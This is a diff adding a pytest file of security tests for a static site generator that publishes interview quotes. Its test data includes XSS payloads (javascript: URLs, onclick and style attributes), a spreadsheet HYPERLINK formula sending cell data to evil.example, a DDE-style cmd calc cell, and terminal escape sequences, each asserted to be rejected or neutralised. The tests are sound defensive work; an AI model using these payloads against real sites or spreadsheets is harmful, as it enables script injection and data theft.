@@ -1,0 +1,376 @@
+"""SECURITY.md, items 26 on: the trust boundaries of issue 21, each tried and shut."""
+
+from __future__ import annotations
+
+import json
+import unicodedata
+from html.parser import HTMLParser
+
+import pytest
+from conftest import site_files
+
+GOOD = "**Dana Whitfield:** [A fine quote.]{.pain}\n\n**Priya Raman:** [Another.]{.criteria}\n"
+
+
+# 26. base_url is a path or an http(s):// URL: never a script in every link.
+@pytest.mark.parametrize("url", ["javascript://%0aalert(document.domain)//", "JavaScript:alert(1)", "data:text/html,x",
+                                 "//evil.example/", "/a b/", "vbscript://x"])
+def test_base_url_that_is_not_a_path_or_http_is_an_error_at_its_line(repo, url, tmp_path):
+    repo.transcript("a.md", GOOD)
+    repo.write("persona-site.toml", f'title = "T"\nbase_url = "{url}"\n')
+    out = tmp_path / "site"
+    result = repo.run("build", "--out", str(out))
+    assert result.exit_code == 1
+    assert "persona-site.toml:2: error: 'base_url' must be a path such as '/personas/' or an http:// or https:// URL" in result.stderr
+    assert not out.exists()
+
+
+@pytest.mark.parametrize("url", ["javascript://%0aalert(document.domain)//", "//evil.example/"])
+def test_base_url_option_that_is_not_a_path_or_http_is_a_usage_error(repo, url, tmp_path):
+    repo.transcript("a.md", GOOD)
+    out = tmp_path / "site"
+    result = repo.run("build", "--out", str(out), "--base-url", url)
+    assert result.exit_code == 2
+    assert "--base-url" in result.stderr and "must be a path such as '/personas/'" in result.stderr
+    assert not out.exists()
+
+
+@pytest.mark.parametrize("url", ["/", "/team/", "team", "https://example.com/personas/", "HTTP://intranet:8080"])
+def test_paths_and_http_urls_are_good_base_urls(repo, url, tmp_path):
+    repo.transcript("a.md", GOOD)
+    repo.write("persona-site.toml", f'base_url = "{url}"\n')
+    assert repo.run("build", "--out", str(tmp_path / "site")).exit_code == 0
+
+
+# 27. Attribute syntax: a span publishes its tags and a q- id, nothing else, whatever mdit-py-plugins keeps.
+def _attributes(html: str) -> list[tuple[str, str | None]]:
+    """Every (name, value) of every element's attributes in html."""
+    found: list = []
+    parser = HTMLParser()
+    parser.handle_starttag = lambda tag, attrs: found.extend(attrs)
+    parser.feed(html)
+    return found
+
+
+HOSTILE_SPANS = ('**Dana Whitfield:** [Click here.]{.pain style="position:fixed;inset:0;z-index:9" onclick="alert(1)"} '
+                 'and [Mine.]{#evil .pain target=_blank} and [plain]{style="color:red" href="javascript:alert(1)"} '
+                 'and [a link](https://example.com){target=_blank style="x"} and [Kept.]{#q-kept .criteria}\n')
+
+
+def test_span_attributes_other_than_tags_and_a_q_id_never_reach_a_page(repo, tmp_path):
+    repo.write("persona-site.toml", "publish_transcripts = true\n")
+    repo.write("content/personas/vp-sales.md", '---\ntitle: VP Sales\n---\nSee [this]{style="position:fixed" #top}.\n')
+    repo.transcript("a.md", HOSTILE_SPANS)
+    out = tmp_path / "site"
+    result = repo.run("build", "--out", str(out))
+    assert result.exit_code == 0, result.output
+    assert "content/transcripts/a.md:11: warning: the attribute 'style' is not published" in result.stderr
+    assert "content/transcripts/a.md:11: warning: the id '#evil' is not published" in result.stderr
+    pages = [p.read_text("utf-8") for p in out.rglob("*.html")]
+    pages += [q["html"] for q in json.loads((out / "quotes.json").read_text())["quotes"]]
+    found = [attribute for page in pages for attribute in _attributes(page)]
+    assert ("data-quote-id", "q-kept") in found  # the parser sees the quotes' markup
+    assert not [(name, value) for name, value in found if name in ("style", "onclick", "target")
+                or (name == "id" and value in ("evil", "top")) or "javascript" in (value or "")]
+    quotes = json.loads((out / "quotes.json").read_text())["quotes"]
+    assert {q["text"] for q in quotes} == {"Click here.", "Mine.", "Kept."}
+    assert "q-kept" in {q["id"] for q in quotes} and "evil" not in {q["id"] for q in quotes}
+
+
+def test_span_attributes_are_dropped_by_our_renderer_not_by_the_plugin_version():
+    # The tokens an older mdit-py-plugins (0.6.1) makes of [x]{onclick=... style=... #other .pain}.
+    from markdown_it.token import Token
+
+    from persona_site.markdown import markdown
+
+    span = Token("span_open", "span", 1, attrs={"onclick": "alert(1)", "style": "position:fixed", "target": "_blank",
+                                                 "href": "javascript:alert(1)", "id": "other", "class": "pain"})
+    tokens = [span, Token("text", "", 0, content="x"), Token("span_close", "span", -1)]
+    md = markdown()
+    assert md.renderer.renderInline(tokens, md.options, {}) == '<span class="pain">x</span>'
+    span.attrs["id"] = "q-mine"
+    assert md.renderer.renderInline(tokens, md.options, {}) == '<span id="q-mine" class="pain">x</span>'
+
+
+# 28. Names are compared after Unicode normalisation: a label typed in NFD is the participant written in NFC.
+ZOE_NFC, ZOE_NFD = unicodedata.normalize("NFC", "Zoë Müller"), unicodedata.normalize("NFD", "Zoë Müller")
+ZOE_PEOPLE = f"  {ZOE_NFC}: head-of-revops\n  Sam Ortiz: internal\n"
+ZOE_BODIES = [f"**{ZOE_NFD}:** [It hurts.]{{.pain}}\n", f"{ZOE_NFD}: [It hurts.]{{.pain}}\n",
+              f"**{ZOE_NFD.upper()}:** [00:01:02] [It *hurts*.]{{.pain}}\n\n> aside\n"]
+
+
+@pytest.mark.parametrize("body", ZOE_BODIES)
+def test_a_label_in_nfd_names_the_participant_written_in_nfc(repo, body):
+    repo.write("persona-site.toml", 'attribution = "name"\n')
+    repo.transcript("a.md", body, participants=ZOE_PEOPLE)
+    result = repo.run("quotes", "--format", "json")
+    assert result.exit_code == 0, result.output
+    assert "not in the participants" not in result.stderr
+    [quote] = json.loads(result.stdout)["quotes"]
+    assert quote["role"] == "head-of-revops" and quote["speaker"] == ZOE_NFC
+
+
+@pytest.mark.parametrize("body", ZOE_BODIES + [f"**{ZOE_NFD}:** a\n\n**Sam Ortiz:** b [c]{{.pain}}\n"])
+@pytest.mark.parametrize("render", [False, True])
+def test_the_fast_paths_match_nfd_labels_as_markdown_it_does(body, render):
+    from persona_site.config import DEFAULT_TAGS
+    from persona_site.model import Participant
+    from persona_site.quotes import Walk, extract_quotes
+    from persona_site.quotes_fast import try_extract
+
+    people = (Participant(ZOE_NFC, "head-of-revops", None), Participant("Sam Ortiz", "internal", None))
+    kwargs = dict(path="p.md", doc="p.md", line_offset=7, participants=people, tags=DEFAULT_TAGS, render_body=render,
+                  speaker_label=(lambda who: "Speaker" if who is None else who.role) if render else None)
+    slow = extract_quotes(body, Walk.start(**kwargs))
+    fast = try_extract(body, Walk.start(**kwargs)) or slow  # as reader.read_transcript extracts
+    assert fast.quotes == slow.quotes and fast.body_html == slow.body_html
+    assert sorted(map(str, fast.diagnostics)) == sorted(map(str, slow.diagnostics))
+    assert not any("not in the participants" in str(d) for d in fast.diagnostics)
+
+
+# 29. Two participants whose names differ only in case or Unicode form are one person: an error at the second.
+@pytest.mark.parametrize("second", ["SAM ORTIZ", "sam  ortiz", unicodedata.normalize("NFD", "Sam Ortíz")])
+def test_a_colleague_written_twice_is_an_error_not_a_buyer(repo, second):
+    first = "Sam Ortíz" if "\u0301" in second else "Sam Ortiz"
+    repo.transcript("a.md", f"**{first}:** [We spend days on this.]{{.pain}}\n",
+                    participants=f"  {first}: internal\n  {second}: head-of-revops\n")
+    result = repo.run("check")
+    assert result.exit_code == 1
+    assert (f"content/transcripts/a.md:7: error: '{second}' is '{first}' again (names are compared ignoring case and "
+            "Unicode form)") in result.stderr
+    assert json.loads(repo.run("quotes", "--format", "json").stdout or '{"quotes": []}')["quotes"] == []
+
+
+# 30. CSV cells that a spreadsheet would run as a formula start with a ' instead.
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_cells_that_start_a_formula_are_neutralised_in_every_text_column(repo, start):
+    import csv
+    import io
+
+    formula = f'{start}HYPERLINK("https://evil.example/?d="&A1,"Click")'
+    repo.write("persona-site.toml", 'attribution = "name"\n')
+    path = repo.transcript("a.md", f"**{start}cmd|' /C calc'!A0:** [{formula}]{{.pain}} and [{start}SUM(1+1)]{{.objection}}\n",
+                           participants=f"  \"{start}cmd|' /C calc'!A0\": {{role: head-of-revops, title: '{start}1 evil'}}\n")
+    path.write_text(path.read_text().replace("company: Acme Corp", f"company: '{formula}'"))
+    result = repo.run("quotes", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert len(rows) == 2
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    assert {row["company"] for row in rows} == {f"'{formula}"}
+    assert {row["speaker"] for row in rows} == {f"'{start}cmd|' /C calc'!A0"}
+    assert {row["title"] for row in rows} == {f"'{start}1 evil"}
+    assert {row["text"] for row in rows} == {f"'{formula}", f"'{start}SUM(1+1)"}
+
+
+def test_csv_cells_starting_with_tab_or_cr_are_neutralised_and_others_kept():
+    from persona_site.cli import _cell
+
+    assert [_cell(v) for v in ("\tx", "\rx", "a=b", "", 7, None)] == ["'\tx", "'\rx", "a=b", "", 7, None]
+
+
+# 31. Control characters from content reach the terminal escaped: no window title set, no screen cleared.
+def test_escape_sequences_from_content_are_shown_escaped_in_check_and_quotes(repo, monkeypatch):
+    monkeypatch.setenv("GITHUB_ACTIONS", "true")
+    path = repo.transcript("a.md", "**Dana\x1b]0;pwned\x07:** hello\n\n**Dana Whitfield:** [It \x1bc\x9b2J hurts\u202e.]{.pain}\n")
+    path.write_text(path.read_text().replace("company: Acme Corp", 'company: "Acme\\e]0;title\\a"'))
+    check = repo.run("check")
+    assert "speaker 'Dana\\x1b]0;pwned\\x07' is not in the participants" in check.stderr
+    assert "::warning file=content/transcripts/a.md,line=11::speaker 'Dana\\x1b]0;pwned\\x07'" in check.stdout
+    quotes = repo.run("quotes")
+    assert "Acme\\x1b]0;title\\x07" in quotes.stdout and "It \\x1bc\\x9b2J hurts\\u202e." in quotes.stdout
+    for output in (check.stdout, check.stderr, quotes.stdout, quotes.stderr):
+        assert not any(c in output for c in "\x1b\x07\x9b\u202e")
+
+
+# 32. Bidirectional controls in a quote: a warning at its line, and on every page the quote's words are isolated.
+_VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
+
+
+class _Isolation(HTMLParser):
+    """For each text holding U+202E: whether an open element inside the quote's element (data-quote-id) isolates it."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.stack: list[tuple[str, dict]] = []
+        self.found: list[bool] = []
+
+    def handle_starttag(self, tag, attrs):
+        if tag not in _VOID:
+            self.stack.append((tag, dict(attrs)))
+
+    def handle_endtag(self, tag):
+        while self.stack and self.stack.pop()[0] != tag:
+            pass
+
+    def handle_data(self, data):
+        if "\u202e" in data:
+            quote = next((i for i, (_, a) in enumerate(self.stack) if "data-quote-id" in a), None)
+            self.found.append(quote is not None and any(
+                tag == "bdi" or a.get("dir") == "auto" for tag, a in self.stack[quote:]))
+
+
+def test_bidi_controls_in_a_quote_warn_and_every_page_isolates_the_quote(repo, tmp_path):
+    repo.write("persona-site.toml", "publish_transcripts = true\n")
+    repo.transcript("a.md", "**Dana Whitfield:** Fine.\n\n[We pay \u202e0001$ a month]{.pain} says the invoice.\n")
+    out = tmp_path / "site"
+    result = repo.run("build", "--out", str(out))
+    assert result.exit_code == 0, result.output
+    assert "content/transcripts/a.md:13: warning: this quote holds a bidirectional control character" in result.stderr
+    isolated = []
+    for page in out.rglob("*.html"):
+        parser = _Isolation()
+        parser.feed(page.read_text("utf-8"))
+        isolated += [(page.relative_to(out).as_posix(), ok) for ok in parser.found]
+    pages = {page for page, _ in isolated}
+    assert {"index.html", "personas/head-of-revops/index.html", "tags/pain/index.html",
+            "transcripts/a/index.html"} <= pages
+    assert [item for item in isolated if not item[1]] == []
+
+
+# 33. Tracebacks where a message belongs.
+@pytest.mark.parametrize("links", [{"loop.md": "b.md", "b.md": "loop.md"}, {"again": "."}, {"2026/up": ".."}])
+@pytest.mark.parametrize("git", [False, True])
+def test_a_loop_of_links_in_content_is_an_error_not_a_traceback(repo, links, git):
+    repo.transcript("a.md", GOOD)
+    folder = repo.root / "content/transcripts"
+    for name, target in links.items():
+        (folder / name).parent.mkdir(exist_ok=True)
+        (folder / name).symlink_to(target)
+    if git:
+        repo.commit_all()
+    result = repo.run("check")
+    assert result.exit_code == 1
+    for name in links:
+        assert f"content/transcripts/{name}: error: this link leads back to itself" in result.stderr
+
+
+def test_an_output_path_too_long_is_a_message_and_the_previous_site_stays(repo):
+    repo.transcript("a.md", GOOD)
+    assert repo.run("build").exit_code == 0
+    before = site_files(repo.root / "site")
+    repo.write("persona-site.toml", f'[tags]\n{"a" * 300} = "Long"\npain = "Pain"\ncriteria = "Criteria"\n')
+    result = repo.run("build")
+    assert result.exit_code == 1
+    assert f"error: a path in the site is too long for this disk ({repo.root / 'site'}/personas/" in result.stderr
+    assert "Shorten the name it comes from" in result.stderr
+    assert site_files(repo.root / "site") == before
+    assert [p.name for p in repo.root.iterdir() if p.name.startswith(".persona-site-")] == []
+
+
+def test_a_full_disk_is_a_message_and_the_previous_site_stays(repo, monkeypatch):
+    import errno
+    import os
+
+    repo.transcript("a.md", GOOD)
+    assert repo.run("build").exit_code == 0
+    before = site_files(repo.root / "site")
+    repo.write("persona-site.toml", 'title = "Every page changes"\n')
+    real, calls = os.write, []
+
+    def full(handle, data):
+        calls.append(1)
+        if len(calls) >= 5:
+            raise OSError(errno.ENOSPC, "No space left on device")
+        return real(handle, data)
+
+    monkeypatch.setattr(os, "write", full)
+    result = repo.run("build")
+    monkeypatch.undo()
+    assert result.exit_code == 1
+    assert "error: the disk is full: " in result.stderr and "the previous site is unchanged" in result.stderr
+    assert "Traceback" not in result.output
+    assert site_files(repo.root / "site") == before
+
+
+def test_import_of_an_endless_file_stops_at_the_size_limit(repo):
+    result = repo.run("import", "/dev/zero", "--dry-run")
+    assert result.exit_code == 1
+    assert "/dev/zero: error: this file holds more than the limit of 5 MB: split it" in result.stderr
+
+
+def test_rev_refuses_a_blob_over_the_limit_without_reading_it(repo, monkeypatch):
+    from persona_site import gitmeta
+
+    repo.transcript("a.md", GOOD)
+    repo.write("content/transcripts/huge.md", "x" * (40 * 1024 * 1024))
+    repo.commit_all()
+    read = []
+    real = gitmeta._git
+
+    def counted(root, *args, input=None):
+        out = real(root, *args, input=input)
+        read.append(len(out))
+        return out
+
+    monkeypatch.setattr(gitmeta, "_git", counted)
+    result = repo.run("check", "--rev", "HEAD")
+    assert result.exit_code == 1
+    assert "content/transcripts/huge.md: error: this file is 41.9 MB; the limit is 5 MB: split it" in result.stderr
+    assert max(read) < 1024 * 1024  # git's answers: the 40 MB blob was never read
+
+
+# 36. serve under a flood of idle connections: bounded, timed out, and no edit lost to an error.
+def test_idle_connections_are_bounded_and_closed_and_the_preview_answers_again(tmp_path, monkeypatch):
+    import socket
+    import time
+
+    from serve_helpers import make_repo, serving
+
+    from persona_site import serve
+
+    monkeypatch.setattr(serve, "MAX_CONNECTIONS", 8, raising=False)
+    monkeypatch.setattr(serve, "IDLE_SECONDS", 1.0, raising=False)
+    with serving(make_repo(tmp_path / "repo"), watch=False) as running:
+        idle = [socket.create_connection(("127.0.0.1", running.port), timeout=5) for _ in range(40)]
+        started = time.monotonic()
+        try:
+            assert [connection.recv(1) for connection in idle] == [b""] * 40  # each closed by the server
+        finally:
+            for connection in idle:
+                connection.close()
+        assert time.monotonic() - started < 4
+        assert running.get("").status == 200
+
+
+def test_live_reload_streams_are_capped(tmp_path, monkeypatch):
+    from serve_helpers import make_repo, serving
+
+    from persona_site import serve
+
+    monkeypatch.setattr(serve, "MAX_STREAMS", 2, raising=False)
+    with serving(make_repo(tmp_path / "repo")) as running, running.events() as one, running.events() as two:
+        assert one.next_state() and two.next_state()
+        refused = running.get(serve.EVENTS)
+        assert refused.status == 503
+        assert running.get("").status == 200
+
+
+def test_an_error_outside_the_build_is_shown_and_the_next_save_keeps_the_edit(tmp_path, monkeypatch):
+    import errno
+
+    from serve_helpers import make_repo, serving, transcript, wait_until, write
+
+    from persona_site import serve
+
+    source = make_repo(tmp_path / "repo")
+    with serving(source) as running, running.events() as stream:
+        stream.next_state()
+        real, failures = serve._base_path, []
+
+        def out_of_files(root):  # the open-file limit, reached by a flood of connections
+            if not failures:
+                failures.append(1)
+                raise OSError(errno.EMFILE, "Too many open files")
+            return real(root)
+
+        monkeypatch.setattr(serve, "_base_path", out_of_files)
+        write(source, "content/transcripts/2026/acme.md", transcript("The first edit."))
+        state = stream.next_state(lambda s: s["errors"])
+        assert "the content could not be read (Too many open files)" in state["errors"][0]["message"]
+        write(source, "content/transcripts/2026/globex.md", transcript("The second edit.", speaker="Priya Raman"))
+        running.wait_for_text("quotes.json", "The second edit.")
+        assert "The first edit." in running.get("quotes.json").text
+        wait_until(lambda: not running.preview.site.current.errors, what="the overlay to go")
